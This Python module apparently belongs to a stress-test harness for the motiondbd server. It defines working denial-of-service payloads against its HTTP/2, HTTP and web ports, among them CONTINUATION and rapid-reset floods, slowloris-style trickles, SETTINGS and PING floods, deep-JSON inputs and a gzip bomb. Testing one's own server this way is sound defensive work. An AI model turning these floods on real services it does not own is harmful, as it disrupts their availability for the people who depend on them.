"""Attacks on the ports of motiondbd, by name: the bytes of each attack on one connection
(attackers.py)."""

import gzip
import itertools
import struct

import http2
from attackers import Attack
from http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE,
                   NEWEST_ENTRY, PING, PRIORITY, RESET, SETTINGS, START, WINDOW_UPDATE, frame, header,
                   header_frames, indexed_header, request_headers)

HEADER_TABLE_SIZE = 1  # a setting
CANCEL = struct.pack(">I", 8)
BLOCK = 16384  # maximum bytes of a frame
METADATA_LIMIT = 8192  # CallLimitOptions: names, values and 32 bytes for each field
LIST = request_headers("DatabaseService/ListDatabases")
RECOGNIZE = request_headers("QueryService/Recognize")
PLAIN = header("x-field", "v" * 1000) * 16
LETTERS = header("a", "") * (BLOCK // 4)
# This entry nearly fills the dynamic table; each later byte refers to its 4 KB.
TABLE_ENTRY = indexed_header("a", "v" * 4000)
INSERTS = b"".join(indexed_header(f"n{i:04}", "") for i in range(BLOCK // 8))


def start(*settings):
    """Begins a connection. Settings are pairs of number and value."""
    payload = b"".join(struct.pack(">HI", *pair) for pair in settings)
    return START + frame(SETTINGS, 0, 0, payload)


def repeat(chunk, first=start()):
    """Returns a script that sends `first` once, then the chunk repeatedly, in large pieces."""
    many = chunk * max(1, 65536 // len(chunk))

    def script(_connection, _aim):
        yield first
        while True:
            yield many
    return script


def once(data, pause=1.0):
    """Returns a script that sends the data and keeps the connection open."""
    def script(_connection, _aim):
        yield data
        while True:
            yield pause
    return script


def byte_by_byte(data, pause, rest=b"x"):
    """Returns a script that sends one byte every `pause` seconds; repeats `rest` at the end."""
    def script(_connection, _aim):
        for byte in itertools.chain(data, itertools.cycle(rest)):
            yield bytes([byte])
            yield pause
    return script


def per_stream(chunk, count=50):
    """Returns a script that sends chunk(stream) for successive streams, `count` at a time."""
    def script(_connection, _aim):
        yield start()
        for first in itertools.count(1, 2 * count):
            yield b"".join(chunk(first + 2 * i) for i in range(count))
    return script


def continuation(filler, entry=b""):
    return repeat(frame(CONTINUATION, 0, 1, filler), start() + frame(HEADERS, 0, 1, LIST + entry))


def call(stream, block, end=END_STREAM):
    """Returns headers of any size and an empty message; without `end` the message is not sent."""
    message = frame(DATA, END_STREAM, stream, http2.message(b"")) if end else b""
    return header_frames(0, stream, block) + message


def calls_with(*fillers, count=1, end=END_STREAM):
    """Returns a script of calls with these extra header fields, in turn."""
    return per_stream(
        lambda stream: call(stream, LIST + fillers[stream // 2 % len(fillers)], end), count)


def of_limit():
    """Returns fields that bring the metadata of a call to the limit."""
    own = [(":method", "POST"), (":scheme", "http"), (":authority", "localhost"),
           (":path", "/motiondb.v1.DatabaseService/ListDatabases"),
           ("content-type", "application/grpc"), ("te", "trailers")]
    room = METADATA_LIMIT - sum(len(name) + len(value) + 32 for name, value in own)
    return header("x", "v" * (room - 33))


def reset(stream):
    return (frame(HEADERS, END_HEADERS, stream, LIST) +
            frame(DATA, END_STREAM, stream, http2.message(b"")) + frame(RESET, 0, stream, CANCEL))


def made_to_reset(stream):
    """The server resets the call, because a window must not grow by 0."""
    return (frame(HEADERS, END_HEADERS, stream, LIST) +
            frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0)))


def allowed_resets(_connection, _aim):
    """Cancels 3000 calls in 6 s, as a robot does with late answers. The connection must stay
    open."""
    yield start()
    for first in range(1, 6001, 100):
        yield b"".join(reset(first + 2 * i) for i in range(50))
        yield 0.1
    while True:
        yield 1.0


PART = b"\0" + struct.pack(">I", 16 << 20) + bytes(4000)  # of a message of 16 MiB


def partial_messages(connection, _aim):
    yield start()
    for stream in itertools.count(1, 2):
        while connection.window < len(PART):
            yield 0.01
        connection.window -= len(PART)
        yield frame(HEADERS, END_HEADERS, stream, RECOGNIZE) + frame(DATA, 0, stream, PART)


def trickle(_connection, _aim):
    """Sends a hundred messages, one byte at a time."""
    streams = range(1, 200, 2)
    yield start() + b"".join(
        frame(HEADERS, END_HEADERS, stream, RECOGNIZE) + frame(DATA, 0, stream, PART[:5])
        for stream in streams)
    while True:
        yield b"".join(frame(DATA, 0, stream, b"\0") for stream in streams)
        yield 0.1


def zero_window(_connection, aim):
    """Requests all states of the model with a valid token and reads nothing."""
    token = [("authorization", "Bearer " + aim.token)] if aim.token else []
    headers = request_headers("ModelService/ReadStates", *token)
    name = f"databases/{aim.database}/models/current".encode()
    request = http2.message(b"\x0a" + bytes([len(name)]) + name)
    yield start((INITIAL_WINDOW_SIZE, 0))
    for stream in itertools.count(1, 2):
        yield (frame(HEADERS, END_HEADERS, stream, headers) +
               frame(DATA, END_STREAM, stream, request))
        yield 0.005


def settings_of_many_streams(_connection, _aim):
    """Each change of the window applies to all open streams."""
    yield start() + b"".join(frame(HEADERS, END_HEADERS, stream, RECOGNIZE)
                             for stream in range(1, 200, 2))
    payload = b"".join(struct.pack(">HI", INITIAL_WINDOW_SIZE, 65535 + i % 2) for i in range(6))
    while True:
        yield frame(SETTINGS, 0, 0, payload) * 1000


def handshakes(_connection, _aim):
    yield START


def half_hello(_connection, _aim):
    """Begins handshakes and disconnects."""
    yield CLIENT_HELLO


# The beginning of a ClientHello of 512 bytes.
CLIENT_HELLO = bytes.fromhex("16030102000100" "01fc0303") + bytes(range(32))
SETTINGS_FRAME = frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 65535))
TABLE_SIZES = b"".join(frame(SETTINGS, 0, 0, struct.pack(">HI", HEADER_TABLE_SIZE, size))
                       for size in (0, 4096))
PING_FRAME = frame(PING, 0, 0, bytes(8))
ONE = struct.pack(">I", 1)
OPEN = start() + frame(HEADERS, END_HEADERS, 1, RECOGNIZE)
GARBAGE = bytes(i * 7919 % 251 for i in range(4096))
HTTP = b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n"
REQUEST = HTTP + b"\r\n"
HTTP_FIELD = b"X-Field: " + b"v" * 1000 + b"\r\n"
PAGE = b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n"


def json_call(body, length, encoding="identity"):
    """A call of the HTTP API that announces a body of `length` bytes."""
    return (f"POST /motiondb.v1.DatabaseService/ListDatabases HTTP/1.1\r\nHost: localhost\r\n"
            f"Content-Type: application/json\r\nContent-Encoding: {encoding}\r\n"
            f"Content-Length: {length}\r\n\r\n").encode() + body


CALL = json_call(b"{}", 2)
DEEP = json_call(b'{"a":' * 100_000, 500_000)
ZIPPED = gzip.compress(b'{"page_token":"' + bytes(64 << 20) + b'"}')
BOMB = json_call(ZIPPED, len(ZIPPED), "gzip")

ATTACKS = {
    "continuation-plain": Attack(continuation(PLAIN)),
    "continuation-table": Attack(continuation(NEWEST_ENTRY * BLOCK, TABLE_ENTRY)),
    "continuation-inserts": Attack(continuation(INSERTS)),
    "continuation-letters": Attack(continuation(LETTERS)),
    "continuation-empty": Attack(continuation(b"")),
    "continuation-after-end": Attack(repeat(frame(CONTINUATION, 0, 1, PLAIN), OPEN)),
    "metadata-30k-300k": Attack(calls_with(PLAIN * 2, PLAIN * 6, PLAIN * 18)),
    "metadata-letters": Attack(calls_with(LETTERS * 2)),
    "metadata-table": Attack(calls_with(TABLE_ENTRY + NEWEST_ENTRY * 8000)),
    "metadata-at-limit": Attack(calls_with(of_limit(), count=8)),
    "metadata-at-limit-open": Attack(calls_with(of_limit(), count=8, end=0)),
    "rapid-reset": Attack(per_stream(reset)),
    "rapid-reset-unread": Attack(per_stream(reset), reads=False),
    "rapid-reset-by-server": Attack(per_stream(made_to_reset)),
    "allowed-resets": Attack(allowed_resets, max_attackers=1, allowed=True),
    "slow-preface": Attack(byte_by_byte(START, 0.5), sockets=32),
    "partial-messages": Attack(partial_messages),
    "partial-trickle": Attack(trickle),
    "window-update": Attack(repeat(frame(WINDOW_UPDATE, 0, 0, ONE))),
    "window-update-stream": Attack(repeat(frame(WINDOW_UPDATE, 0, 1, ONE), OPEN)),
    "settings": Attack(repeat(SETTINGS_FRAME)),
    "settings-unread": Attack(repeat(SETTINGS_FRAME), reads=False),
    "settings-table-size": Attack(repeat(TABLE_SIZES), reads=False),
    "settings-many-streams": Attack(settings_of_many_streams),
    "ping": Attack(repeat(PING_FRAME)),
    "ping-unread": Attack(repeat(PING_FRAME), reads=False),
    "empty-data": Attack(repeat(frame(DATA, 0, 1, b""), OPEN)),
    "priority": Attack(repeat(b"".join(
        frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 16)) for stream in range(1, 8000, 2)))),
    "reset-unknown": Attack(repeat(b"".join(
        frame(RESET, 0, stream, CANCEL) for stream in range(1, 8000, 2)))),
    "zero-window": Attack(zero_window),
    "silent": Attack(once(b""), tls=False, sockets=32),
    "half-client-hello": Attack(once(CLIENT_HELLO), tls=False, sockets=32),
    "handshakes": Attack(handshakes),
    "garbage": Attack(repeat(GARBAGE, GARBAGE)),
    "garbage-without-tls": Attack(repeat(GARBAGE, GARBAGE), tls=False),
    "http1": Attack(repeat(REQUEST, REQUEST)),
    "http-slow-headers": Attack(byte_by_byte(HTTP + b"X: ", 0.5), port="http", sockets=64),
    "http-large-headers": Attack(repeat(HTTP_FIELD, HTTP), port="http"),
    "http-long-line": Attack(repeat(b"v" * 65536, HTTP + b"X: "), port="http"),
    "http-many-connections": Attack(once(HTTP), port="http", sockets=250),
    "http-requests": Attack(repeat(REQUEST, REQUEST), port="http"),
    "http-requests-unread": Attack(repeat(REQUEST, REQUEST), port="http", reads=False),
    "web-slow-headers": Attack(byte_by_byte(HTTP + b"X: ", 0.5), port="web", sockets=64),
    "web-slow-bodies": Attack(byte_by_byte(json_call(b"", 8 << 20), 0.5), port="web", sockets=64),
    "web-large-headers": Attack(repeat(HTTP_FIELD, HTTP), port="web"),
    "web-many-connections": Attack(once(HTTP), port="web", sockets=250),
    "web-half-client-hello": Attack(half_hello, port="web", tls=False),
    "web-pages": Attack(repeat(PAGE, PAGE), port="web"),
    "web-pages-unread": Attack(repeat(PAGE, PAGE), port="web", reads=False),
    "web-calls": Attack(repeat(CALL, CALL), port="web"),
    "web-calls-unread": Attack(repeat(CALL, CALL), port="web", reads=False),
    "web-deep-json": Attack(repeat(DEEP, DEEP), port="web"),
    "web-bombs": Attack(repeat(BOMB, BOMB), port="web"),
}

MOST_IMPORTANT = [
    "continuation-plain", "continuation-table", "continuation-letters", "metadata-30k-300k",
    "rapid-reset", "allowed-resets", "slow-preface", "partial-messages", "window-update",
    "settings-unread", "ping-unread", "http-slow-headers", "http-large-headers",
    "http-many-connections", "web-slow-headers", "web-bombs"]
